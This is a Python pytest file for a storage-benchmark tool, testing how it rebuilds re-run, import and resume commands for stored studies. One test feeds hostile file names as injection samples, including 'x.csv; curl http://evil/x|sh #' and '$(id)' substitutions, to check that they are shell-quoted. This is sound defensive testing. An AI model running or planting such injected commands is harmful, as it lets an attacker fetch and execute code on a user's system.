"""Command that measures a stored study again."""

from dataclasses import replace

import pytest

from iolab.store.cells import CellError
from iolab.store.continuing import (
    command_again,
    command_on,
    device_hint,
    finish_hint,
    option_past_the_cache,
    rounds_hint,
)
from iolab.store.read import _asked
from iolab.store.rows import StudyRow, TrialRow

STUDY = StudyRow(
    study_id="s",
    name="x",
    kind="real",
    created_at_unix_ns=0,
    iolab_version="0",
    seed=1,
    margin=0.05,
    compared_factor="fs",
    baseline="ext4",
    factors={},
    settings={},
    workloads=[],
    rounds_planned=1,
    testbed="loop:1g",
    plan_digest="",
    spec_toml='name = "x"',
)


def of_command(*words):
    return replace(STUDY, command=words)


@pytest.mark.parametrize(
    ("words", "again", "five"),
    [
        (["-a", "-f", "my file"], "-a -f 'my file'", "--repeat 5 -a -f 'my file'"),
        (["-a", "--repeat", "2"], "-a --repeat 2", "--repeat 5 -a"),
        (["--repeat=2", "-a"], "--repeat=2 -a", "--repeat 5 -a"),
        (["--out", "o", "-a", "--out=p"], "-a", "--repeat 5 -a"),
        (["--on", "loop:1g", "-i", "0"], "--on loop:1g -i 0", "--repeat 5 --on loop:1g -i 0"),
    ],
)
def test_a_command_line_is_typed_again_without_where_its_results_went(words, again, five):
    study = of_command("iozone", *words)
    assert command_again(study) == f"iolab iozone {again}"
    assert command_again(study, rounds=5) == f"iolab iozone {five}"
    assert finish_hint(study).endswith(f"`iolab iozone {again}`.")
    assert "--resume" not in finish_hint(study)
    assert rounds_hint(study, 5) == f"Measure at least 5 rounds: `iolab iozone {five}`."


def test_a_study_is_run_again_from_its_file():
    assert command_again(STUDY) == "iolab run study.toml"
    assert command_again(STUDY, rounds=7) == "iolab run study.toml --rounds 7"
    assert "--resume" in finish_hint(STUDY)
    assert "--rounds" in rounds_hint(STUDY, 5)


def test_a_table_is_imported_again():
    study = replace(STUDY, kind="imported", testbed="imported:night.log")
    assert command_again(study) == "iolab import night.log"


def test_each_program_has_its_own_option_for_direct_io():
    assert option_past_the_cache(STUDY) == "--direct"
    found = [option_past_the_cache(of_command(name)) for name in ("iozone", "bonnie++", "mkfile")]
    assert found == ["-I", "-D", ""]


def test_each_program_says_how_to_measure_the_device():
    rest = "files larger than memory to measure the device."
    assert device_hint(STUDY) == f"Use --direct, a cold cache, or {rest}"
    found = [device_hint(of_command(name)) for name in ("iozone", "bonnie++", "mkfile")]
    assert found == [f"Use -I or {rest}", f"Use -D or {rest}", f"Use {rest}"]


@pytest.mark.parametrize("value", ["5", '"iozone"', '["iozone", 5]'])
def test_a_stored_command_that_is_no_list_of_words_is_named(value):
    with pytest.raises(CellError, match="command is no list of words"):
        _asked(f"command = {value}")


def test_a_study_without_a_readable_file_names_no_command():
    assert _asked("?") == {}
    assert _asked('name = "x"')["command"] == ()
    assert _asked('command = ["iozone", "-a"]')["command"] == ("iozone", "-a")


@pytest.mark.parametrize(
    ("file", "word"),
    [
        ("x.csv", "x.csv"),
        ("x.csv; curl http://evil/x|sh #", "'x.csv; curl http://evil/x|sh #'"),
        ("t$(id); x.csv", "'t$(id); x.csv'"),
        ("--unit", "./--unit"),
        ("-`id`", "'./-`id`'"),
        ("it's", """'it'"'"'s'"""),
    ],
)
def test_the_name_of_an_imported_file_is_one_word_and_no_option(file, word):
    """The advice to import it again was a command that anybody could write, by a file's name."""
    study = replace(STUDY, kind="imported", testbed=f"imported:{file}")
    assert command_again(study) == f"iolab import {word}"


def trial(number, level, status="ok", elapsed_ns=10_000_000_000):
    return TrialRow(f"t{number}", number, 1, 0, "w", {"fs": level}, status, 1, elapsed_ns)


def test_advice_to_go_on_names_a_budget_that_is_enough():
    study = replace(STUDY, spec_toml='name = "x"\nbudget = "30s"')
    trials = [trial(1, "ext4"), trial(2, "xfs")]
    on = command_on(study, rounds=6, trials=trials)
    assert on == "iolab run DIR --resume --rounds 6 --budget 3m"  # 20 s, and 100 s with a reserve.
    assert command_on(STUDY, rounds=6, trials=trials) == "iolab run DIR --resume --rounds 6"
    assert command_on(study, rounds=1, trials=trials) == "iolab run DIR --resume"
    # Of a level nothing but a trial without a time is known: as long as the others.
    trials[1] = trial(2, "xfs", elapsed_ns=0)
    assert command_on(study, rounds=6, trials=trials).endswith("--budget 3m")
    assert command_on(study, rounds=6, trials=[]) == "iolab run DIR --resume --rounds 6"
    damaged = replace(STUDY, spec_toml='name = "x"\nbudget = "soon"')
    assert command_on(damaged, rounds=6, trials=trials) == "iolab run DIR --resume --rounds 6"
